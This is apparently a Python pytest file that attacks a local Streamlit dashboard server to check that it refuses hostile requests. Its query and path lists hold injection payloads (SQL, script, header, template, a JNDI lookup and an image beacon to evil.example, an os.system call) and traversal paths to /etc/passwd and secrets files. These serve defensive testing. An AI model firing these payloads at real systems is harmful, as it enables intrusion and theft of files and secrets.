"""What does an attacker get? A refusal or the default, from a server that goes on as before."""

import base64
import json
import re
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from streamlit.testing.v1 import AppTest

from tests.conftest import PAGES
from tests.served import Answer, Served, a_line, open_on_line, running, spoken

# Twenty megabytes in an address that a server still reads: above 64 KB uvicorn refuses it before the dashboard is asked.
BOMB = base64.urlsafe_b64encode(zlib.compress(b"[" * 20_000_000, 9)[2:-4]).decode().rstrip("=")
# Half of a character in the title of a path: JSON may name it, and nothing can be written with it.
HALF = base64.urlsafe_b64encode(zlib.compress(rb'["\ud800", ["panel=claims", "\ud800", "\ud800"]]')[2:-4]).decode()
QUERIES = [
    "asof=9999-99-99",
    "asof=%00",
    f"asof={'9' * 4000}",
    "asof=2012-07-03&asof=1950-01-01&asof=%F0%9F%92%A3",
    "asof=0000-00-00&source=none",
    "source=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "source=brief+only%0d%0aSet-Cookie:%20taken=1",
    "lane=%27%3B+DROP+TABLE+events%3B--",
    "lane=%27+OR+1%3D1",
    "&".join(["lane=talks"] * 1500),
    "lane=%ED%A0%80",
    "q=%00%0b%1b%ef%bf%be",
    f"path={HALF}",
    "place=..%2F..%2F..%2Fetc%2Fpasswd",
    "place=file%3A%2F%2F%2Fetc%2Fpasswd",
    "figure=__import__(%27os%27).system(%27id%27)",
    "figure=%7B%7B7*7%7D%7D%7B%25+for+x+in+y+%25%7D",
    "figure=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "figure=!%5Bbeacon%5D(http%3A%2F%2Fevil.example%2Fx.png)",
    f"figure={quote('‮⁦' * 300)}",
    f"figure={';'.join(['BRF-002'] * 900)}",
    f"figure=computed-would-remain-in-2031-at-{'9' * 5000}-persons-a-year-computed",
    "table=__class__&columns=__globals__",
    "panel=constructor&__proto__[polluted]=1",
    "present=1&panel=__proto__",
    "present=1&step=-1",
    "present=1&step=99999999999999999999999999",
    "present=1&step=1e309&panel=%00",
    "present=yes&present=1&present=%FF",
    "path=AAAA",
    f"path={BOMB}",
    "path=%FF%FE%00&present=1",
    "disagreement=-1&pace=-inf",
    "pace=NaN&years=NaN&years=1e999",
    "years=2012&years=1950&years=1&years=",
    "hedge=&unit=&=&&==&%5B%5D=1&a[b]=c",
    "embed=true&embed_options=..%2F&utm=%c0%ae%c0%ae%2f",
]
PATHS = [
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/..\\..\\etc\\passwd",
    "/..%5c..%5cetc%5cpasswd",
    "//etc/passwd",
    "//evil.example/share",
    "/\\\\evil.example\\share",
    "/C:/Windows/win.ini",
    "/file:///etc/passwd",
    "/static/../../../../etc/passwd",
    "/static/js/..%2f..%2f..%2fserver.py",
    "/static/%2e%2e/%2e%2e/config.py",
    "/geo/../tables/sources.csv",
    "/geo/..%2ftables%2fsources.csv",
    "/geo/%2e%2e/%2e%2e/dashboard.py",
    "/geo//etc/passwd",
    "/assets/..%2f..%2fdashboard.py",
    "/media/..%2f..%2fetc%2fpasswd",
    "/component/../../etc/passwd",
    "/component/streamlit/..%2f..%2fetc/passwd",
    "/_stcore/bidi-components/..%2f..%2fetc%2fpasswd",
    "/app/static/..%2f..%2fdashboard.py",
    "/print/..%2f..%2fdashboard.py",
    "/data/v1/../../dashboard.py",
    "/data/v1/..%2f..%2fdashboard.py",
    "/data/v1/figures/..%2f..%2f..%2fetc%2fpasswd.json",
    "/data/v1/%00figures.csv",
    "/data/v1/figures.csv%00.html",
    "/data/v1/%252e%252e%252fdashboard.py",
    "/.git/config",
    "/.streamlit/config.toml",
    "/.streamlit/secrets.toml",
]
# The page that reads a parameter; the overview for those that every page reads.
READ_BY = {
    "q": "mission-timeline",
    "lane": "mission-timeline",
    "place": "recovery-map",
    "figure": "sources-and-data",
    "table": "sources-and-data",
    "disagreement": "disagreements",
    "pace": "remains-and-identifications",
    "years": "counts-over-time",
    "hedge": "prisoners-of-war",
    "path": "path",
}
# Words that stand in the files which the paths above are after, and in nothing that is served.
SECRET = re.compile(r"root:.*:0:0:|\[core\]|postScriptGC|import streamlit|\[fonts\]|^source_id,", re.MULTILINE)
WEBSOCKET = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    "Sec-WebSocket-Protocol": "streamlit",
}
ATTACKED_ROUTES = ("data/v1/figures.csv", "data/v1/events.json", "data/v1/path.pptx", "data/v1/places.geojson")


def page_that_reads(query: str) -> str:
    return READ_BY.get(query.split("=")[0], "")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A server for attacks alone; at the end it has answered no error of its own, and asked nothing of another host."""
    outside = tmp_path_factory.mktemp("attacked") / "outside.log"
    outside.touch()
    with running(outside) as served:
        yield served
        bears_up(served, outside)


def bears_up(served: Served, outside: Path) -> None:
    """The server is well, has never failed and asked no other host."""
    assert spoken(served.address, "GET", "/_stcore/health").text == "ok"
    assert "Traceback" not in served.said(), served.said()
    assert outside.read_text() == ""


def is_refused_with_a_sentence(answer: Answer, *statuses: int) -> None:
    assert answer.status in statuses, answer.text
    assert answer.headers["content-type"] == "application/json"
    told = json.loads(answer.text)
    assert told["error"].endswith((".", "?")) and told["see"] == "/data/v1/"


def test_there_are_thirty_hostile_queries_and_twenty_hostile_paths() -> None:
    assert len(set(QUERIES)) >= 30 and len(set(PATHS)) >= 20


@pytest.mark.parametrize("query", QUERIES, ids=lambda query: query[:40])
def test_a_hostile_query_to_the_data_is_refused_with_a_sentence_or_answered(attacked: Served, query: str) -> None:
    before = len(attacked.said())
    for route in ATTACKED_ROUTES:
        answer = spoken(attacked.address, "GET", f"/{route}?{query}")
        if answer.status != 200:
            is_refused_with_a_sentence(answer, 400, 404)
        assert "set-cookie" not in answer.headers or "taken" not in answer.headers["set-cookie"]
    assert attacked.said()[before:] == ""


@pytest.mark.parametrize("query", QUERIES, ids=lambda query: query[:40])
def test_a_hostile_query_to_a_copy_for_paper_is_answered_with_a_page_and_nothing_of_it_is_a_tag(
    attacked: Served, query: str
) -> None:
    answer = spoken(attacked.address, "GET", f"/print/{page_that_reads(query) or 'overview'}?{query}")
    assert answer.status in (200, 400, 404)
    assert "<script" not in answer.text


def test_a_hostile_query_opens_a_page_without_an_error_and_another_session_stays_as_it_was(attacked: Served) -> None:
    with a_line(attacked.address) as line, a_line(attacked.address) as line_of_attacker:
        before = words_of(open_on_line(line, "mission-timeline", "lane=talks"))
        for query in QUERIES:
            messages = open_on_line(line_of_attacker, page_that_reads(query), query)
            assert messages[-1].script_finished == ForwardMsg.FINISHED_SUCCESSFULLY, query[:60]
            assert not [said for said in messages if said.delta.new_element.HasField("exception")], query[:60]
        assert words_of(open_on_line(line, "mission-timeline", "lane=talks")) == before


def words_of(messages: list[ForwardMsg]) -> list[str]:
    return [said.delta.new_element.html.body for said in messages if said.delta.new_element.HasField("html")]


@pytest.mark.parametrize("path", PATHS)
def test_a_traversal_path_gives_no_file(attacked: Served, path: str) -> None:
    answer = spoken(attacked.address, "GET", path)
    assert not SECRET.search(answer.text)
    assert answer.status in (400, 403, 404), answer.text
    if ".." in path.replace("%2e", ".") or "%00" in path:
        assert answer.status in (400, 404)


@pytest.mark.parametrize("path", [path for path in PATHS if "/../" in path or "%00" in path])
def test_a_malformed_path_is_refused_in_the_shape_of_the_data(attacked: Served, path: str) -> None:
    is_refused_with_a_sentence(spoken(attacked.address, "GET", path), 400)


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "TRACE", "BREW"])
@pytest.mark.parametrize("path", ["/data/v1/", "/data/v1/figures.csv", "/data/v1/figures/BRF-002.json"])
def test_the_data_can_be_read_and_nothing_else(attacked: Served, method: str, path: str) -> None:
    answer = spoken(attacked.address, method, path, body=b"{}")
    is_refused_with_a_sentence(answer, 405)
    assert answer.headers["allow"] == "GET, HEAD, OPTIONS"


@pytest.mark.parametrize(
    "origin",
    ["http://evil.example", "https://evil.example:8501", "null", "http://localhost:1", "file://", "http://[::1"],
)
def test_a_page_of_a_foreign_origin_gets_no_websocket(attacked: Served, origin: str) -> None:
    answer = spoken(attacked.address, "GET", "/_stcore/stream", WEBSOCKET | {"Origin": origin})
    is_refused_with_a_sentence(answer, 403)


def test_a_page_of_its_own_origin_gets_a_websocket(attacked: Served) -> None:
    assert spoken(attacked.address, "GET", "/_stcore/stream", WEBSOCKET | {"Origin": attacked.address}).status == 101


@pytest.mark.parametrize(
    ("host", "origin", "status"),
    [
        ("localhost:443", "https://localhost", 101),
        ("localhost:80", "http://localhost", 101),
        ("[::1]:443", "https://[::1]", 101),
        ("localhost:80", "https://localhost", 403),
        ("localhost:443", "http://localhost", 403),
        ("localhost:0", "https://localhost", 403),
    ],
)
def test_a_proxy_may_name_the_port_that_a_scheme_has_anyway(
    attacked: Served, host: str, origin: str, status: int
) -> None:
    answer = spoken(attacked.address, "GET", "/_stcore/stream", WEBSOCKET | {"Origin": origin}, host=host)
    assert answer.status == status


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "localhost@evil.example", "a b", "[::1"])
@pytest.mark.parametrize("path", ["/", "/_stcore/health", "/data/v1/figures.csv", "/print/overview"])
def test_a_foreign_host_is_refused_and_stands_in_no_answer_as_an_address(
    attacked: Served, host: str, path: str
) -> None:
    answer = spoken(attacked.address, "GET", path, host=host)
    is_refused_with_a_sentence(answer, 421)
    assert f"http://{host}" not in answer.text


def test_a_foreign_host_gets_no_websocket(attacked: Served) -> None:
    answer = spoken(attacked.address, "GET", "/_stcore/stream", WEBSOCKET, host="evil.example")
    is_refused_with_a_sentence(answer, 421)


UPLOAD = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\na,b\r\n--x--\r\n'
TYPE = {"Content-Type": "multipart/form-data; boundary=x"}


@pytest.mark.parametrize("method", ["PUT", "DELETE"])
@pytest.mark.parametrize("session", ["none", "..%2f..%2fetc", "%00"])
@pytest.mark.parametrize("token", [{}, {"X-Xsrftoken": "2|0|0|0"}, {"X-Xsrftoken": "a", "Cookie": "_streamlit_xsrf=b"}])
def test_an_upload_without_a_token_is_refused(
    attacked: Served, method: str, session: str, token: dict[str, str]
) -> None:
    path = f"/_stcore/upload_file/{session}/file"
    answer = spoken(attacked.address, method, path, TYPE | token, UPLOAD)
    assert answer.status == (403 if session == "none" else 400), answer.text


def test_an_upload_with_a_token_but_without_a_session_is_refused(attacked: Served) -> None:
    cookie = spoken(attacked.address, "GET", "/_stcore/health").headers["set-cookie"].split(";")[0]
    told = TYPE | {"Cookie": cookie, "X-Xsrftoken": cookie.split("=", 1)[1]}
    answer = spoken(attacked.address, "PUT", "/_stcore/upload_file/none/file", told, UPLOAD)
    assert answer.status == 400 and "session" in answer.text.lower()


@pytest.mark.parametrize("page", [page for page in PAGES if page])
def test_a_page_takes_no_word_from_a_form(attacked: Served, page: str) -> None:
    assert spoken(attacked.address, "POST", f"/{page}", TYPE, UPLOAD).status in (404, 405)


@pytest.mark.slow
@pytest.mark.parametrize(
    "ids", ["BRF-002;BRF-001", ";".join(["BRF-002"] * 900), "none;nothing", ";"], ids=lambda ids: ids[:16]
)
def test_ids_that_cannot_be_added_up_open_the_page_with_a_sentence(open_page: Callable[..., AppTest], ids: str) -> None:
    page = open_page("sources-and-data", figure=ids)
    assert not page.exception
    assert any("We found no record" in text.value for text in page.text)
